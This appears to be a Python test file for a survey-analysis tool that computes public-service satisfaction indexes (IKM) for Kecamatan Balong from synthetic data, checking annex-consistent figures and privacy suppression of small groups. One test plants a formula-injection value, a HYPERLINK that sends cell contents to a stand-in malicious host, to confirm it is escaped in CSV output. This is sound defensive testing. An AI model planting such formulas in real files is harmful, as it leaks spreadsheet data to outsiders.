"""The views without a browser: from a view to its figures and sentences, and what is never shown."""

from __future__ import annotations

import csv
import hashlib
from collections import Counter
from collections.abc import Callable
from dataclasses import replace
from datetime import date
from decimal import Decimal
from itertools import combinations
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from balong_eval import explore, regulation
from balong_eval.analysis import change, skm, trend
from balong_eval.analysis.office import read_unit
from balong_eval.analysis.scenario import Scenario
from balong_eval.errors import InputError
from balong_eval.explore import course, figures, frontend, rows, save, screen, suppose, view
from balong_eval.explore.course import Course, SeriesOf
from balong_eval.explore.respondents import chosen, too_few
from balong_eval.explore.rows import Number
from balong_eval.explore.view import PROFILE, REST, View
from balong_eval.intake.survey import read_survey
from balong_eval.report import answer, tables
from balong_eval.report import trend as trends
from balong_eval.report.block import Table, Text
from balong_eval.report.words import say

ROOT = Path(__file__).parent.parent.parent
UNIT = read_unit(ROOT / "data/contoh")
SURVEYS = figures.Surveys(UNIT)
WORDS = st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=12)


def sentences(blocks: object) -> str:
    return "\n".join(line for block in blocks if isinstance(block, Text) for line in block.sentences)  # type: ignore[attr-defined]


@settings(max_examples=60)
@given(WORDS, WORDS, st.dates(date(1990, 1, 1), date(2100, 1, 1)), st.booleans())
def test_a_view_comes_back_from_its_line(period: str, layanan: str, day: date, straight: bool) -> None:
    wanted = View(period=period, layanan=layanan, first_day=day, straight_liners=straight)
    assert view.read(view.write(wanted)) == wanted


def test_scenario_and_course_come_back_from_their_lines() -> None:
    wanted = Scenario({"sarpras": 0.3}, {'Layanan "baru"': 2.0}, (Decimal("60.5"), Decimal("70.25"), Decimal("80.0")), 40)
    assert suppose.read(suppose.write(wanted, "2019")) == (wanted, "2019")
    assert course.read(course.write(Course("pembanding", ("2018", "2020"), 84.5))) == Course("pembanding", ("2018", "2020"), 84.5)
    assert (view.write(View()), suppose.write(Scenario()), course.write(Course())) == ("", "", "")


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("{periode = 2019}", "'periode' salah jenisnya"),
        ('{layana = "x", periode = "2019"}', "Maksudnya 'layanan'"),
        ("periode 2019", "tidak terbaca"),
        ('{periode = "2019"}\nlain = 1', "tidak terbaca"),
    ],
)
def test_a_wrong_line_is_told_in_indonesian(text: str, told: str) -> None:
    with pytest.raises(InputError, match=told):
        view.read(text)


@pytest.mark.parametrize("mode", [frontend.STATIC, frontend.LIVE])
@pytest.mark.parametrize(
    ("door", "line", "told"),
    [
        (explore.survey, '{periode = "2019-"}', "Periode '2019-' tidak dikenal. Yang ada: 2016, .* Maksudnya '2019'"),
        (explore.survey, '{periode = "²"}', "Periode '²' tidak dikenal"),
        (explore.survey, '{periode = "2019", layanan = "Legalisasi dokumn"}', "layanan 'Legalisasi dokumn'. Maksudnya 'Legalisasi dokumen'"),
        (explore.survey, '{periode = "2019", banding = "1999", usia = "5"}', "usia '5'. banding '1999'."),
        (explore.survey, '{periode = "2019", bobot = "9"}', "bobot '9'"),
        (explore.survey, '{periode = "2019", peraturan = "x"}', "Peraturan 'x' tidak dikenal"),
        (explore.what_if, '{periode = "1999"}', "Periode '1999' tidak dikenal"),
        (explore.what_if, "{batas = [65.0, 70.0]}", "Batas kelas harus 3, dari yang terendah; diberi 2"),
        (explore.what_if, "{batas = [nan, 70.0, 80.0]}", "isi 'batas' salah jenisnya"),
        (explore.what_if, '{batas = ["a", 70.0, 80.0]}', "isi 'batas' salah jenisnya"),
        (explore.what_if, '{naik = {sarpras = "x"}}', "isi 'naik' salah jenisnya"),
        (explore.what_if, "{naik = {sarpras = 1.01}}", "naik sarpras 1,01 .paling jauh 1"),
        (explore.what_if, "{naik = {sarprass = 0.1}}", "Tidak ditanyakan atau tidak ada pada tahun 2021: sarprass"),
        (explore.what_if, '{layanan = {"Dispensasi nikah" = 0.3}, tambah = -5}', "bobot layanan Dispensasi nikah 0,30 .*; tambah -5"),
        (explore.what_if, "{tambah = 100001}", "tambah 100001"),
        (explore.trend, '{deret = "x"}', "Tidak ada deret 'x'"),
        (explore.trend, "{tanpa_patahan = [2018]}", "isi 'tanpa_patahan' salah jenisnya"),
        (explore.trend, '{tanpa_patahan = ["2017"], target = 101.0}', "tidak ada patahan sebelum 2017 .yang ada: 2018.; target 101,00 di luar 25,00"),
        (explore.trend, "{target = inf}", "isi 'target' salah jenisnya"),
    ],
)
def test_a_line_that_says_what_is_not_there_is_told(
    monkeypatch: pytest.MonkeyPatch, mode: str, door: Callable[[object, str], None], line: str, told: str
) -> None:
    """The same before a screen and without one: no list falls back to its first choice in silence."""
    monkeypatch.setenv(frontend.FORCE, mode)
    with pytest.raises(InputError, match=told) as error:
        door(UNIT, line)
    assert error.value._render_traceback_() == [f"Kesalahan: {error.value}"]


def test_what_is_saved_can_be_read_again_at_the_ends() -> None:
    for wanted in (Scenario({"sarpras": 1.0, "waktu": -1.0}, {}, (), 100_000), Scenario(shares={"A": 0.0, "B": 0.5, "C": 2.0})):
        assert suppose.read(suppose.write(wanted, "2019"))[0] == wanted


def test_a_service_too_small_cannot_be_weighed() -> None:
    """With and without three users: their answers would be the difference. The next smallest would give them away too."""
    survey = UNIT.survey(2019)
    service = pd.Series("besar", index=survey.responses.index)
    service.iloc[:3], service.iloc[3:12], service.iloc[12:60] = "kecil", "sedang", "cukup"
    made = replace(survey, responses=survey.responses.assign(layanan=service), sidecar=replace(survey.sidecar, population={}))
    for name, shown in (("kecil", False), ("sedang", False), ("cukup", True), ("besar", True)):
        told = sentences(suppose.blocks(made, Scenario(shares={name: 0.0}), "A"))
        assert ("terlalu sedikit untuk disajikan" not in told) is shown, name


def test_all_unsur_by_the_same_step() -> None:
    """gap 2019 = 88.305 - 82.4978 = 25 t: t = 0.232, less 0.3 / 9 where biaya has 0.3 already and so no room for it."""
    survey = UNIT.survey(2019)
    (table,) = [block for block in suppose.blocks(survey, Scenario(), "A") if isinstance(block, Table)]
    assert table.notes[-1] == "Bila semua unsur naik bersama-sama, cukup +0,232 tiap unsur." and round((88.305 - 82.49781502452534) / 25, 3) == 0.232
    (table,) = [block for block in suppose.blocks(survey, Scenario({"biaya": 0.3}), "A") if isinstance(block, Table)]
    assert table.notes[-1].startswith("Naik sama banyak tidak cukup: perlu +0,199 tiap unsur, sedangkan yang tertinggi sudah 3,97")
    (table,) = [block for block in suppose.blocks(survey, Scenario(shares={"Dispensasi nikah": 2.0}), "A") if isinstance(block, Table)]
    assert [row[3] for row in table.rows] == [None] * 9 and table.notes[-1].startswith("NRR di sini berbobot layanan")


def test_everybody_is_said_as_the_annex_says_it() -> None:
    survey = UNIT.survey(2019)
    annex = skm.summarise(survey, by=())
    heading, first, table = screen.numbers(figures.compute(View(period="2019"), SURVEYS))
    assert isinstance(first, Text) and first.sentences == answer.first_screen(annex).sentences
    assert isinstance(table, Table) and table == tables.by_unsur(annex)
    assert "sama dengan yang dicetak lampiran" in sentences([heading]) and "DATA CONTOH (SINTETIS)" in sentences([heading])


@pytest.mark.parametrize("year", range(2017, 2022))
def test_every_sentence_of_the_first_screen_is_there(year: int) -> None:
    """As `lampiran_skm` makes it: with the change from the year before."""
    survey, before = UNIT.survey(year), UNIT.survey(year - 1)
    annex = answer.first_screen(skm.summarise(survey, by=["layanan", "usia"]), change.compare(before, survey)).sentences
    found = figures.compute(figures.begin(View(period=str(year)), SURVEYS), SURVEYS)
    beside = figures.compute(View(period=str(year), against=str(year - 1)), SURVEYS)
    shown = [*sentences(screen.numbers(found)).splitlines(), *sentences(screen.compared(beside, figures.compare(beside, SURVEYS))).splitlines()]
    assert not [line for line in annex if line not in shown]


def test_a_part_is_never_called_the_whole() -> None:
    found = figures.compute(View(period="2019", jenis_kelamin="Perempuan"), SURVEYS)
    told = sentences(screen.numbers(found))
    assert "IKM Kecamatan Balong (jenis kelamin Perempuan) tahun 2019 adalah" in told and "IKM Kecamatan Balong tahun" not in told
    assert "Bukan angka resmi; IKM resmi seluruh responden 82,50." in told


def test_another_period_is_compared_as_the_annex_does() -> None:
    found = figures.compute(View(period="2019", against="2018"), SURVEYS)
    other = figures.compare(found, SURVEYS)
    annex = change.compare(UNIT.survey(2018), UNIT.survey(2019))
    assert other is not None and sentences(screen.compared(found, other)) == "\n".join(answer.differs(annex))


def test_the_rest_and_the_part_make_the_whole() -> None:
    """n add up, and the difference is that of the two indexes."""
    found = figures.compute(View(period="2019", against=REST, layanan="Legalisasi dokumen"), SURVEYS)
    other = figures.compare(found, SURVEYS)
    assert other is not None and other.rest is not None and found.result.ikm is not None
    assert other.n + found.result.n == UNIT.survey(2019).n
    rest = skm.summarise(figures.domain.narrowed(found.whole, ~found.rows), by=())
    assert other.other == pytest.approx(rest.ikm) and other.change.common.estimate == pytest.approx(other.rest.estimate)


def test_the_class_of_another_regulation() -> None:
    found = figures.compute(View(period="2019", regulation="kepmenpan_25_2004"), SURVEYS)
    assert (found.official.mutu, found.result.mutu) == ("A", "A") and SURVEYS.official("2019").mutu == "B"
    assert "menurut KEP/25/M.PAN/2/2004, bukan peraturan yang disebut survei" in sentences(screen.numbers(found))


def test_a_printed_weight_is_told() -> None:
    """81.68 = 0.99 * 82.4978, the index under 0.11 (docs/method.md)."""
    found = figures.compute(View(period="2019", bobot="0.11"), SURVEYS)
    assert "Dengan bobot 0,11 yang dipakai sebagian laporan, IKM-nya 81,67 dan kelasnya B." in sentences(screen.numbers(found))
    assert round(82.49781502452534 * 0.99, 2) == 81.67


def test_few_have_no_class_under_a_printed_weight_either() -> None:
    """81.90 * 0.99 = 81.08 of 22 respondents."""
    found = figures.compute(View(period="2019", layanan="Dispensasi nikah", bobot="0.11"), SURVEYS)
    assert screen.weight(found) == ("Dengan bobot 0,11 yang dipakai sebagian laporan, IKM-nya 81,08.",)


@pytest.mark.parametrize(("value", "told"), [("Legalisasi dokumen", "belum melampaui ketelitian"), ("buruk", "): berbeda (p < 0,001).")])
def test_the_rest_is_called_apart_where_it_is(value: str, told: str) -> None:
    """A service whose every answer is 1 is apart from all others; Legalisasi dokumen is not (docs/panduan.md, chapter 12)."""
    survey = UNIT.survey(2019)
    rows_ = survey.responses.copy()
    if value == "buruk":
        rows_.loc[rows_["layanan"] == "Legalisasi dokumen", KEYS] = 1.0
        rows_["layanan"] = rows_["layanan"].replace({"Legalisasi dokumen": "buruk"})
    surveys = figures.Surveys(UNIT)
    surveys._read["2019"] = replace(survey, responses=rows_, sidecar=replace(survey.sidecar, population={}))
    found = figures.compute(View(period="2019", against=REST, layanan=value), surveys)
    assert told in sentences(screen.compared(found, figures.compare(found, surveys)))


def small(n: int, cell: int = 5) -> figures.Surveys:
    """A unit whose 2019 holds only `n` women."""
    survey = UNIT.survey(2019)
    women = survey.responses["jenis_kelamin"] == "Perempuan"
    kept = pd.concat([survey.responses[~women], survey.responses[women].iloc[:n]])
    found = figures.Surveys(UNIT)
    found._read["2019"] = replace(survey, responses=kept, smallest_cell=cell)
    return found


@pytest.mark.parametrize("sex", ["Perempuan", "Laki-laki"])
def test_neither_the_few_nor_all_but_the_few(sex: str) -> None:
    """Four women are not shown, nor are the men, from whom and the whole the four could be worked out."""
    surveys = small(4)
    found = figures.compute(View(period="2019", jenis_kelamin=sex, against=REST), surveys)
    blocks = screen.everything(found, figures.compare(found, surveys))
    assert found.too_few and len(blocks) == 1 and "kurang dari 5 orang" in sentences(blocks)
    assert rows.behind(found, Number()).table.empty and not any(char.isdigit() for char in sentences(blocks).replace("5 orang", ""))
    assert not figures.compute(View(period="2019", jenis_kelamin=sex), small(5)).too_few


@pytest.mark.parametrize("number", [Number(), Number("sarpras"), Number("sarpras", "12"), Number("biaya", "4")])
def test_rows_are_anonymous(number: Number) -> None:
    """No identity, day or text; each combination of fields that is shown is shared by five rows or more."""
    found = figures.compute(View(period="2019"), SURVEYS)
    kept = rows.behind(found, number)
    table, survey = kept.table, found.survey
    assert list(table.columns) == ["layanan", "jenis_kelamin", "usia", "pendidikan", "pekerjaan", *(unsur.key for unsur in survey.unsur)]
    assert min(Counter(table.iloc[:, :5].itertuples(index=False, name=None)).values()) >= survey.smallest_cell
    assert table.equals(table.sort_values(list(table.columns), ignore_index=True))
    answered = survey.responses[number.unsur] if number.unsur else pd.Series(1, index=survey.responses.index)
    wanted = answered.isin(rows.SCORES[number.score]) if number.score else answered.notna()
    assert len(table) == wanted.sum() and not kept.left_out


@settings(max_examples=80, deadline=None)
@given(st.lists(st.tuples(*[st.sampled_from("abc")] * 3), min_size=1, max_size=60))
def test_masked_groups_are_never_small(values: list[tuple[str, str, str]]) -> None:
    """Under every prefix, whatever is shown, or hidden together, is five rows or all that there are."""
    groups = pd.DataFrame(values, columns=["x", "y", "z"], dtype="object")
    shown = rows.masked(groups, 5)
    for depth in (1, 2, 3):
        counts = Counter(shown.iloc[:, :depth].itertuples(index=False, name=None))
        parents = Counter(shown.iloc[:, : depth - 1].itertuples(index=False, name=None))
        assert all(n >= 5 or n == parents[key[:-1]] for key, n in counts.items())
    assert ((shown == groups) | (shown == rows.MASK)).all().all()


def test_the_file_of_rows_says_what_it_is_and_is_read_as_answers(tmp_path: Path) -> None:
    found = figures.compute(View(period="2019", layanan="Legalisasi dokumen"), SURVEYS)
    text = rows.as_csv(found, Number(), rows.behind(found, Number()))
    (tmp_path / "balik.csv").write_text(text, encoding="utf-8")
    assert "Kecamatan Balong" in text and "layanan Legalisasi dokumen" in text and "IKM 84,58 dari 53 responden" in text
    read = read_survey(tmp_path / "balik.csv", rule="permenpanrb_14_2017")
    assert skm.summarise(read).ikm == pytest.approx(found.result.ikm, abs=1e-9)
    heads = next(csv.reader([text.splitlines()[9]]))
    assert heads[0] == "layanan" and not set(heads) & {"id", "tanggal", "waktu_isi", "saran", "n"}


def test_what_if_nothing_is_changed_says_the_annex() -> None:
    blocks = suppose.blocks(UNIT.survey(2019), Scenario(), "A")
    assert "IKM Kecamatan Balong tahun 2019 adalah 82,50, mutu B (Baik)." in sentences(blocks)
    assert "Dengan 285 responden selangnya 81,30 sampai 83,64" in sentences(blocks)


def test_what_if_names_all_that_is_changed() -> None:
    wanted = Scenario({"sarpras": 0.3}, {"Dispensasi nikah": 2.0, "Legalisasi dokumen": 0.0}, (Decimal("62.5"), Decimal("76"), Decimal("82")), 100)
    told = sentences(suppose.blocks(UNIT.survey(2019), wanted, "A"))
    pieces = ("Sarana dan Prasarana +0,30", "layanan Dispensasi nikah berbobot 2", "layanan Legalisasi dokumen dikeluarkan", "A 82,00", "100 orang")
    assert all(piece in told for piece in pieces)


def test_what_was_not_asked_is_told() -> None:
    told = sentences(suppose.blocks(UNIT.survey(2016), Scenario({"sarpras": 0.3}, {"Layanan lain": 0.0}), "A"))
    assert told == "Tidak ditanyakan atau tidak ada pada tahun 2016: Layanan lain dan sarpras."


def test_few_have_no_class_in_what_if_either() -> None:
    """Twelve respondents: the annex sets no class, and neither does what is supposed of them, until there are thirty."""
    survey = UNIT.survey(2019)
    few = replace(survey, responses=survey.responses.iloc[:12], sidecar=replace(survey.sidecar, population={}))
    told = sentences(suppose.blocks(few, Scenario({"sarpras": 0.3}), "A"))
    assert "kelas mutunya belum ditetapkan" in told and ", mutu B" not in told and "mutu belum ditetapkan" in told
    assert "diperlukan sedikitnya" in told
    enough = sentences(suppose.blocks(few, Scenario(added=18), "A"))
    assert "menjadi 78,62, mutu B (Baik); sekarang 78,62, mutu belum ditetapkan." in enough
    alike = replace(few, responses=few.responses.assign(**dict.fromkeys(KEYS, 3.0)))
    told = sentences(suppose.blocks(alike, Scenario(), "A"))
    assert "Seluruh selang di kelas C.\n" in told and "Kelas mutu ditetapkan mulai 30 responden (18 lagi)." in told


CHOICES = figures.choices(SURVEYS, "2019")
KEYS = [unsur.key for unsur in UNIT.survey(2019).unsur]
ANY = {column: st.sampled_from(["", *values]) for column, values in CHOICES.items()}


@settings(max_examples=60, deadline=None)
@given(
    st.sampled_from(UNIT.period_names), st.sampled_from(["", REST, "2016", "2019"]), st.sampled_from(["", *regulation.IDS]), st.booleans(),
    st.fixed_dictionaries(ANY), st.sampled_from([None, date(2019, 6, 1)]),
)  # fmt: skip
def test_no_choice_of_controls_breaks_a_view(period: str, against: str, rule: str, straight: bool, chosen: dict[str, str], day: date | None) -> None:
    """Whatever is chosen is shown or withheld; where it is withheld no figure of it is."""
    wanted = View(period=period, against=against, regulation=rule, straight_liners=straight, first_day=day, **chosen)
    found = figures.compute(wanted, SURVEYS)
    other = figures.compare(found, SURVEYS)
    blocks = (*screen.numbers(found), *screen.compared(found, other))
    kept = int(found.rows.sum())
    if found.too_few:
        assert len(blocks) == 1 and rows.behind(found, Number()).table.empty and found.result.ikm is None
    else:
        assert kept >= 5 and found.result.n == kept and found.result.ikm is not None
        assert not [fewer for fewer in with_fewer_filters(found) if 0 < fewer - kept < 5]


def with_fewer_filters(found: figures.Figures) -> list[int]:
    """How many respondents each view has that leaves out some filters of this one but counts the same forms; only of views that are shown."""
    view, whole = found.view, found.whole
    names = [*view.filters, *(name for name in ("first_day", "last_day") if getattr(view, name))]
    dropped = [part for size in range(1, len(names) + 1) for part in combinations(names, size)]
    views = [replace(view, **{name: getattr(View(), name) for name in part}) for part in dropped]  # type: ignore[arg-type]
    return [int(chosen(whole, fewer).sum()) for fewer in views if not too_few(whole, fewer)]


def test_a_filter_shows_the_groups_that_the_annex_shows() -> None:
    survey = UNIT.survey(2019)
    for column, groups in skm.summarise(survey, by=PROFILE).groups.items():
        for row in groups.to_dict("records"):
            assert too_few(survey, View(period="2019", **{column: row["group"]})) == row["suppressed"], (column, row["group"])


def test_a_group_beside_one_too_small_is_not_shown_either() -> None:
    """Services of 3, 9 and the rest: with 9 and the rest shown, the three would be the whole less both."""
    survey = UNIT.survey(2019)
    service = pd.Series("besar", index=survey.responses.index)
    service.iloc[:3], service.iloc[3:12] = "kecil", "sedang"
    made = replace(survey, responses=survey.responses.assign(layanan=service))
    shown = {name: not too_few(made, View(period="2019", layanan=name)) for name in ("kecil", "sedang", "besar")}
    assert shown == {"kecil": False, "sedang": False, "besar": True}


def test_the_first_and_the_last_day_are_within() -> None:
    survey = UNIT.survey(2019)
    days = pd.to_datetime(survey.responses["tanggal"]).dt.date
    first, last = sorted(days)[40], sorted(days)[200]
    kept = chosen(survey, View(period="2019", first_day=first, last_day=last))
    assert list(kept) == [first <= day <= last for day in days] and kept[days == first].all() and kept[days == last].all()


def test_nobody_is_left_over_by_a_day() -> None:
    """From a day that leaves out three: not shown; with all or with five left out: shown."""
    survey = UNIT.survey(2019)
    days = pd.to_datetime(survey.responses["tanggal"]).copy()
    days.iloc[:] = pd.Timestamp("2019-06-01")
    for early, shown in ((0, True), (3, False), (5, True)):
        days.iloc[:early] = pd.Timestamp("2019-02-01")
        made = replace(survey, responses=survey.responses.assign(tanggal=days))
        assert too_few(made, View(period="2019", first_day=date(2019, 3, 1))) is not shown, early
    for early, shown in ((4, False), (5, True)):
        days.iloc[:early], days.iloc[early:] = pd.Timestamp("2019-02-01"), pd.Timestamp("2019-06-01")
        made = replace(survey, responses=survey.responses.assign(tanggal=days))
        assert too_few(made, View(period="2019", last_day=date(2019, 3, 1))) is not shown, early


def test_nobody_is_left_over_by_one_answer_to_everything() -> None:
    """Three uniform forms: the index without them would tell theirs, as the annex says nothing of it either; five may be left out."""
    survey = UNIT.survey(2019)
    mixed = survey.responses[~figures.domain.skm.reliability.straight_liners(survey.responses[KEYS])].copy()
    for uniform, shown in ((0, True), (3, False), (5, True)):
        rows_ = mixed.copy()
        rows_.loc[rows_.index[:uniform], KEYS] = 4
        assert too_few(replace(survey, responses=rows_), View(period="2019", straight_liners=False)) is not shown, uniform


def test_the_other_period_is_not_given_away_either() -> None:
    """Four men in the year before: the women of both years are not compared, for their index and the official one would tell the men's."""
    surveys = figures.Surveys(UNIT)
    survey = UNIT.survey(2018)
    men = survey.responses["jenis_kelamin"] == "Laki-laki"
    surveys._read["2018"] = replace(survey, responses=pd.concat([survey.responses[~men], survey.responses[men].iloc[:4]]))
    found = figures.compute(View(period="2019", against="2018", jenis_kelamin="Perempuan"), surveys)
    assert not found.too_few and figures.compare(found, surveys) is None


@pytest.fixture
def released_once(monkeypatch: pytest.MonkeyPatch) -> pd.DataFrame:
    """What may be shown of 2019, computed once for many files."""
    found = rows.released(SURVEYS.survey("2019"))
    monkeypatch.setattr(rows, "released", lambda survey: found)
    return found


def test_files_laid_side_by_side_tell_no_more_than_one(released_once: pd.DataFrame) -> None:
    """An attack: rows of many files with up to two filters are joined by their answers; what so becomes known of a person holds for five."""
    known: dict[tuple[object, ...], set[tuple[str, str]]] = {}
    single = [(column, value) for column, values in CHOICES.items() for value in values]
    pairs = [(a, b) for a, b in combinations(single, 2) if a[0] != b[0] and not {a[0], b[0]} & {"pendidikan", "pekerjaan"}]
    views = [{}, *({column: value} for column, value in single), *({a[0]: a[1], b[0]: b[1]} for a, b in pairs)]
    written = 0
    for filters in views:
        found = figures.compute(View(period="2019", **filters), SURVEYS)
        table = rows.behind(found, Number()).table
        written += not table.empty
        for row in table.to_dict("records"):
            answers = tuple(str(row[unsur.key]) for unsur in found.survey.unsur)
            shown = {(column, row[column]) for column in PROFILE if row[column] != rows.MASK}
            known.setdefault(answers, set()).update(shown | set(filters.items()))
    once = released_once[~released_once[KEYS].duplicated(keep=False)]
    people = [frozenset(known[tuple(str(row[key]) for key in KEYS)]) for row in once.to_dict("records")]
    everybody = released_once.to_dict("records")
    profile = Counter(frozenset((column, row[column]) for column in PROFILE if row[column] != rows.MASK) for row in everybody)
    assert written > 30 and len(people) > 100
    assert all(profile[person] >= 5 for person in people)


def test_a_file_leaves_out_nobody_or_enough(released_once: pd.DataFrame) -> None:
    """So that the number in its head less its rows is nobody's."""
    for column, values in CHOICES.items():
        for value in values:
            found = figures.compute(View(period="2019", **{column: value}), SURVEYS)
            kept = rows.behind(found, Number())
            assert kept.table.empty or ((kept.left_out == 0 or kept.left_out >= 5) and len(kept.table) + kept.left_out == found.result.n)
            assert kept.table.empty or set(kept.table[column]) <= {value, rows.MASK}


def test_a_file_that_leaves_out_three_is_not_written() -> None:
    """In a service of three women and two men neither sex is shown; the women's number less the women's rows would be the three."""
    survey = UNIT.survey(2019)
    five = survey.responses.index[:5]
    changed = survey.responses.assign(layanan="besar")
    changed.loc[five, "layanan"] = "kecil"
    changed.loc[five, "jenis_kelamin"] = ["Perempuan"] * 3 + ["Laki-laki"] * 2
    surveys = figures.Surveys(UNIT)
    for service, written in (("kecil", False), ("besar", True)):
        changed.loc[five, "layanan"] = service
        surveys._read["2019"] = replace(survey, responses=changed, sidecar=replace(survey.sidecar, population={}))
        found = figures.compute(View(period="2019", jenis_kelamin="Perempuan"), surveys)
        assert not found.too_few and rows.behind(found, Number()).table.empty is not written, service


def test_a_row_that_stands_for_two_is_written_twice() -> None:
    survey = UNIT.survey(2019)
    surveys = figures.Surveys(UNIT)
    surveys._read["2019"] = replace(survey, responses=survey.responses.assign(n=2))
    assert len(rows.behind(figures.compute(View(period="2019"), surveys), Number()).table) == 2 * survey.n


def test_it_begins_with_the_last_year_beside_the_one_before() -> None:
    assert (figures.begin(View(), SURVEYS).period, figures.begin(View(), SURVEYS).against) == ("2021", "2020")
    assert figures.begin(View(period="2018"), SURVEYS).against == ""


def test_days_and_answers_are_not_written_together() -> None:
    found = figures.compute(View(period="2019", first_day=date(2019, 6, 1)), SURVEYS)
    assert not found.too_few and rows.behind(found, Number()).table.empty and "Kosongkan dahulu saringan tanggal" in rows.why_none(found)


def test_a_service_that_looks_like_a_formula_is_text_in_the_file() -> None:
    survey = UNIT.survey(2019)
    name = '=HYPERLINK("http://jahat.invalid/?"&A1,"klik")'
    surveys = figures.Surveys(UNIT)
    surveys._read["2019"] = replace(survey, responses=survey.responses.replace({"layanan": {"Legalisasi dokumen": name}}))
    found = figures.compute(View(period="2019", layanan=name), surveys)
    text = rows.as_csv(found, Number(), rows.behind(found, Number()))
    cells = [cell for line in csv.reader(text.splitlines()) for cell in line]
    assert cells.count(f"'{name}") == 53 and not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_uniform_forms_that_are_not_counted_are_on_neither_side() -> None:
    """Women and men without uniform forms are together all who gave other answers; without filter nobody is left to compare with."""
    survey = UNIT.survey(2019)
    view = View(period="2019", against=REST, jenis_kelamin="Perempuan", straight_liners=False)
    found = figures.compute(view, SURVEYS)
    other = figures.compare(found, SURVEYS)
    men = figures.compute(replace(view, jenis_kelamin="Laki-laki"), SURVEYS).result
    assert other is not None and other.n == men.n and other.other == pytest.approx(men.ikm)
    assert other.n + found.result.n == survey.n - int(figures.domain.skm.reliability.straight_liners(survey.responses[KEYS]).sum())
    assert figures.compare(figures.compute(replace(view, jenis_kelamin=""), SURVEYS), SURVEYS) is None


def test_days_of_a_view_are_told_not_to_hold_for_the_other_period() -> None:
    found = figures.compute(View(period="2019", against="2018", first_day=date(2019, 6, 1)), SURVEYS)
    told = sentences(screen.compared(found, figures.compare(found, SURVEYS)))
    assert told.endswith("Saringan tanggal hanya berlaku bagi tahun 2019, tidak bagi tahun 2018.")


@pytest.mark.parametrize("bounds", [("70", "60", "80"), ("20", "60", "80"), ("60", "70", "101")])
def test_wrong_bounds_are_told(bounds: tuple[str, ...]) -> None:
    told = sentences(suppose.blocks(UNIT.survey(2019), Scenario(bounds=tuple(map(Decimal, bounds))), "A"))
    assert told.startswith("Batas") and "harus" in told


def test_trend_with_all_breaks_is_that_of_the_annex() -> None:
    series = UNIT.series("skm")
    first, *_ = course.blocks(series, Course())
    annex = trends.sentences(trend.estimate(series), "IKM resmi")
    assert isinstance(first, Text) and [line for line in first.sentences if line != say("explore.trend.all_breaks")] == list(annex)


def test_a_break_switched_off_is_told_and_a_target_is_judged() -> None:
    series = UNIT.series("skm")
    first, ahead, *_ = course.blocks(series, Course("skm", ("2018",), 85.0))
    found = course.judge(series, Course("skm", ("2018",), 85.0))
    assert found is not None and len(found.comparable) == 6 and "putusan ini hanya untuk dicoba" in sentences([first])
    assert isinstance(ahead, Table) and [row[4] for row in ahead.rows] == [85.0, 85.0]


def test_where_lower_is_better_a_target_is_reached_from_above() -> None:
    """Six working days for a complaint in 2021: a target of 14 is as good as reached, one of 1 is not; told by the name of the plan."""
    found = SeriesOf(UNIT)
    series, name = found.series("lama_pengaduan"), found.title("lama_pengaduan")
    chances = {}
    for target in (14.0, 6.0, 1.0):
        first, ahead, *_ = course.blocks(series, Course("lama_pengaduan", (), target), name)
        assert isinstance(ahead, Table) and "tidak di atasnya" in ahead.notes[0]
        chances[target] = ahead.rows[0][5]
    assert chances == {14.0: "besar", 6.0: "tidak pasti", 1.0: "kecil"}
    assert sentences([first]).startswith("Indikator Rata-rata lama penyelesaian pengaduan: ")


def test_every_series_of_the_unit_can_be_shown() -> None:
    found = SeriesOf(UNIT)
    for name in found.names().values():
        assert sentences(course.blocks(found.series(name), Course(name)))


def test_saved_parameters(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "notebooks").mkdir()
    monkeypatch.chdir(tmp_path / "notebooks")
    kept = save.save(UNIT, "view", view.write(View(period="2019", usia="25-34")), ["2019"])
    assert kept.path.parent == tmp_path / "outputs/contoh/pandangan" and kept.digests[0][0] == "2019.csv"
    assert kept.cell == 'view: str = \'{periode = "2019", usia = "25-34"}\''
    assert "papermill notebooks/eksplorasi.ipynb outputs/contoh/pandangan/view-2019-" in kept.command


def test_a_saved_view_of_a_year_names_the_files_of_its_parts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    kept = save.save(semesters(tmp_path).unit, "view", view.write(View(period="2019")), ["2019"])
    assert [name for name, _ in kept.digests] == ["2019-S1.csv", "2019-S2.csv"]
    assert kept.digests[1][1] == hashlib.sha256((ROOT / "data/contoh/skm/2019.csv").read_bytes()).hexdigest()


def test_a_unit_without_answers_is_told(tmp_path: Path) -> None:
    (tmp_path / "unit.toml").write_text('name = "Kantor"\n', encoding="utf-8")
    with pytest.raises(InputError, match="belum berisi jawaban"):
        figures.compute(View(), figures.Surveys(read_unit(tmp_path)))


def test_a_group_too_small_in_a_part_is_not_shown_for_the_year(tmp_path: Path) -> None:
    """Three of a service in one semester and many in the other: the year's figure less the other's would be theirs."""
    surveys = semesters(tmp_path)
    whole = surveys.survey("2019")
    first = whole.parts[0].period
    rare = whole.responses.index[(whole.responses["layanan"] == "Dispensasi nikah") & (whole.responses.index.get_level_values(0) == first)]
    for kept, shown in ((3, False), (5, True)):
        responses = whole.responses.drop(rare[kept:])
        parts = tuple(replace(part, responses=responses.loc[part.period]) for part in whole.parts)
        made = replace(whole, responses=responses, parts=parts)
        assert too_few(made, View(period="2019", layanan="Dispensasi nikah")) is not shown, kept


def semesters(folder: Path) -> figures.Surveys:
    """A unit whose 2019 is put together from two semesters: the answers of 2018 and of 2019."""
    (folder / "skm").mkdir()
    (folder / "unit.toml").write_text('name = "Kantor"\n', encoding="utf-8")
    for part, year in (("S1", 2018), ("S2", 2019)):
        (folder / f"skm/2019-{part}.csv").write_bytes((ROOT / f"data/contoh/skm/{year}.csv").read_bytes())
        (folder / f"skm/2019-{part}.toml").write_text('regulation = "permenpanrb_14_2017"\n', encoding="utf-8")
    return figures.Surveys(read_unit(folder))


def test_parts_of_a_year_are_filtered_too(tmp_path: Path) -> None:
    """A year put together from two semesters: the women of both."""
    surveys = semesters(tmp_path)
    found = figures.compute(View(period="2019", jenis_kelamin="Perempuan"), surveys)
    women = [int((UNIT.survey(year).responses["jenis_kelamin"] == "Perempuan").sum()) for year in (2018, 2019)]
    assert found.result.n == sum(women) and [part.n for part in found.survey.parts] == women
    kept = rows.behind(found, Number())
